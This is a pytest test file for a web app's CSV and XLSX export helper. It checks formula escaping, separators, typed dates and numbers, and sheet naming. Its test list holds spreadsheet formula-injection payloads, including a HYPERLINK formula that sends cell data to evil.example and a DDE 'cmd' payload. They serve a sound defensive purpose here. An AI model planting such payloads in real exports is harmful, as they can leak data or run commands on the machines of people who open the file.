"""The one export helper: CSV/XLSX format rules and formula escaping (issue #11, item 3)."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from alliage.core.exports import Column, export_response, sheet_title

DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "=cmd|' /C calc'!A0",
             "+41+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


class Row:
    def __init__(self, name, amount, on=None, at=None, active=True):
        self.name, self.amount, self.on, self.at, self.active = name, amount, on, at, active


COLUMNS = [Column("Nom", lambda r: r.name), Column("Montant", lambda r: r.amount),
           Column("Date", lambda r: r.on), Column("Moment", lambda r: r.at),
           Column("Actif", lambda r: r.active)]


def _csv(response):
    raw = response.content
    assert raw.startswith("\ufeff".encode())  # UTF-8 BOM
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def _sheet(response):
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return book.worksheets[0]


@pytest.mark.parametrize("value", DANGEROUS)
def test_csv_never_starts_a_cell_with_a_formula_trigger(value):
    rows = _csv(export_response([Row(value, 1)], COLUMNS, "csv", name="Liste"))
    cell = rows[1][0]
    assert cell == "'" + value
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("value", DANGEROUS)
def test_xlsx_keeps_formula_like_text_as_text(value):
    ws = _sheet(export_response([Row(value, 1)], COLUMNS, "xlsx", name="Liste"))
    cell = ws["A2"]
    # (XML reads a carriage return back as a line feed)
    assert cell.data_type == "s" and cell.value == value.replace("\r", "\n")
    assert cell.quotePrefix  # stays text even when someone edits the cell


def test_xlsx_file_holds_no_formula_element():
    import zipfile

    response = export_response([Row(DANGEROUS[0], 1)], COLUMNS, "xlsx", name="Liste")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_real_negative_numbers_stay_numbers():
    rows = [Row("Remboursement", -1250), Row("Ajustement", Decimal("-3.50"))]
    csv_rows = _csv(export_response(rows, COLUMNS, "csv", name="Liste"))
    assert csv_rows[1][1] == "-1250" and csv_rows[2][1] == "-3,50"  # French Excel's decimal
    ws = _sheet(export_response(rows, COLUMNS, "xlsx", name="Liste"))
    assert ws["B2"].value == -1250 and ws["B2"].data_type == "n"
    assert ws["B3"].value == -3.5 and ws["B3"].data_type == "n"


def test_csv_uses_semicolons_and_translated_values():
    csv_rows = _csv(export_response([Row("Acme; inc.", 3, active=False)], COLUMNS, "csv",
                                    name="Liste"))
    assert csv_rows[0] == ["Nom", "Montant", "Date", "Moment", "Actif"]
    assert csv_rows[1][0] == "Acme; inc." and csv_rows[1][4] == "Non"


def test_xlsx_has_a_named_sheet_and_typed_dates():
    at = datetime(2025, 3, 4, 15, 30, tzinfo=ZoneInfo("UTC"))
    ws = _sheet(export_response([Row("Acme", 1, on=date(2025, 3, 4), at=at)], COLUMNS,
                                "xlsx", name="Entreprises à risque"))
    assert ws.title == "Entreprises à risque"
    assert ws["C2"].value == datetime(2025, 3, 4) and ws["C2"].is_date
    assert ws["D2"].value == datetime(2025, 3, 4, 10, 30)  # Montréal time, no zone
    assert ws["A1"].value == "Nom" and ws["A1"].font.b


def test_sheet_names_are_made_valid():
    assert sheet_title("a/b:c*d?[e]" + "x" * 40) == ("a b c d  e " + "x" * 40)[:31]
    assert sheet_title("") == "Export"


def test_unknown_format_is_a_translated_400():
    response = export_response([], COLUMNS, "pdf", name="Liste")
    assert response.status_code == 400
    assert "Format d'exportation inconnu" in response.content.decode()


def test_the_comma_option_writes_commas_between_fields_and_decimal_points():
    rows = [Row("Acme, inc.", Decimal("450.00"))]
    content = export_response(rows, COLUMNS, "csv", name="Liste", separator=",").content
    text = content.decode("utf-8-sig")
    assert text.splitlines()[1].startswith('"Acme, inc.",450.00,')


def test_money_columns_have_two_decimals_in_xlsx():
    from dataclasses import replace

    columns = [COLUMNS[0], replace(COLUMNS[1], money=True), *COLUMNS[2:]]
    ws = _sheet(export_response([Row("Acme", Decimal("450.00"))], columns, "xlsx",
                                name="Liste"))
    assert ws["B2"].number_format == "#,##0.00" and ws["B2"].data_type == "n"


def test_the_separator_follows_the_interface_language_unless_asked():
    from django.test import RequestFactory

    from alliage.core.exports import csv_separator

    request = RequestFactory().get("/")
    request.LANGUAGE_CODE = "en"
    assert csv_separator(request) == ","
    request.LANGUAGE_CODE = "fr-ca"
    assert csv_separator(request) == ";"
    asked = RequestFactory().get("/", {"sep": ";"})
    asked.LANGUAGE_CODE = "en"
    assert csv_separator(asked) == ";"
